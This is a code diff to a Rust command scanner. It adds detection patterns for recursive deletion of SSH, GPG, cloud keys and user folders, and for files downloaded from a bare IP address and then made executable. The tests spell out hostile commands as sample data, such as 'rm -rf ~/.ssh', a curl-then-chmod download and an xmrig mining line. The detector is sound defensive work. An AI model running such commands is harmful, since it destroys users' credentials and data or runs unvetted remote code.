@@ -456,6 +456,13 @@ static COMMAND_PATTERNS: LazyLock<Vec<(Technique, Regex, &'static str)>> = LazyL
             "recursive deletion of the system or home folder, or a disk overwritten",
         ),
         (
+            // Keys, credentials and the user's own folders removed from the home folder,
+            // however the names are grouped (`rm -rf "$HOME"/{.ssh,.gnupg}`).
+            Technique::Destruction,
+            r#"\brm\s+-[a-z]*r[a-z]*\s+([^\n;&|]*\s)?["']?(~|\$home|\$\{home\})["']?/(\{[^}\n]*\b(ssh|gnupg|aws|kube|config|documents|desktop|pictures)\b[^}\n]*\}|\.(ssh|gnupg|aws|kube)/?(["'\s;&|)]|$)|(documents|desktop|pictures)/?(["'\s;&|)]|$))"#,
+            "recursive deletion of keys, credentials or the user's folders",
+        ),
+        (
             Technique::Mining,
             r"\bxmrig\b|stratum\+(tcp|ssl)://|\bminerd\b|\bcpuminer\b|--donate-level\b|\bcryptonight\b",
             "mining software or a mining pool",
@@ -490,6 +497,7 @@ pub fn command_techniques(text: &str) -> Vec<(Technique, &'static str)> {
         let found = if *k == Technique::DownloadExecute {
             r.find_iter(t)
                 .any(|m| !vendor_installer(line_around(t, m.start())))
+                || downloaded_from_an_address_then_made_executable(t).is_some()
         } else {
             r.is_match(t)
         };
@@ -498,6 +506,23 @@ pub fn command_techniques(text: &str) -> Vec<(Technique, &'static str)> {
         }
     }
     out
+}
+
+/// A file fetched from a literal IP address (`curl http://203.0.113.7/x -o f`) and then made
+/// executable in a later line of the same script: a program from a host with no name to it.
+/// Where the fetch starts (byte offset), when there is one.
+pub fn downloaded_from_an_address_then_made_executable(text: &str) -> Option<usize> {
+    static FETCH: LazyLock<Option<Regex>> = LazyLock::new(|| {
+        rx(r"\b(curl|wget|iwr|invoke-webrequest)\b[^\n]*\b[a-z]+://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b")
+    });
+    static EXECUTABLE: LazyLock<Option<Regex>> = LazyLock::new(|| {
+        rx(r"\bchmod\s+(-[a-z]+\s+)*([ugoa]*\+[rw]*x|[0-7]?[0-7][1357][0-7]?[0-7]?)\b")
+    });
+    let (fetch, exec) = (FETCH.as_ref()?, EXECUTABLE.as_ref()?);
+    fetch
+        .find_iter(text)
+        .find(|m| exec.is_match(&text[m.end()..]))
+        .map(|m| m.start())
 }
 
 /// The line of `text` holding byte `at`.
@@ -695,8 +720,8 @@ mod tests {
     #[test]
     fn every_built_in_pattern_compiles() {
         assert_eq!(SECRET_PATTERNS.len(), 11);
-        assert_eq!(CONTROL_PATTERNS.len(), 11);
-        assert_eq!(COMMAND_PATTERNS.len(), 10);
+        assert_eq!(CONTROL_PATTERNS.len(), 13);
+        assert_eq!(COMMAND_PATTERNS.len(), 11);
     }
 
     #[test]
@@ -775,6 +800,12 @@ mod tests {
             assert!(!vendor_installer(l), "{l}");
         }
         assert!(command_techniques("curl -L https://fly.io/install.sh | sh").is_empty());
+        let fetched = "curl -fsSL \"http://198.51.100.7/dl/tool\" -o \"$D/tool\"\nchmod +x \"$D/tool\"\n";
+        assert!(command_techniques(fetched)
+            .iter()
+            .any(|(k, _)| *k == Technique::DownloadExecute));
+        let named = "curl -fsSLO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl\nchmod +x kubectl\n";
+        assert!(command_techniques(named).is_empty());
         assert!(!command_techniques("curl -L https://fly-tools.dev/install.sh | sh").is_empty());
     }
 
@@ -876,6 +907,11 @@ mod tests {
                 || t("rm -rf /").contains(&Technique::Destruction)
         );
         assert!(t("./xmrig -o stratum+tcp://pool:3333").contains(&Technique::Mining));
+        assert!(t("rm -rf \"$HOME\"/{.config,.ssh,.gnupg} 2>/dev/null").contains(&Technique::Destruction));
+        assert!(t("rm -rf ~/.ssh").contains(&Technique::Destruction));
+        assert!(!t("rm -rf ~/.cache/pip ~/.npm/_cacache").contains(&Technique::Destruction));
+        assert!(!t("rm -f ~/.ssh/cm-*").contains(&Technique::Destruction));
+        assert!(!t("rm -rf ~/.ssh/sockets").contains(&Technique::Destruction));
     }
 
     #[test]
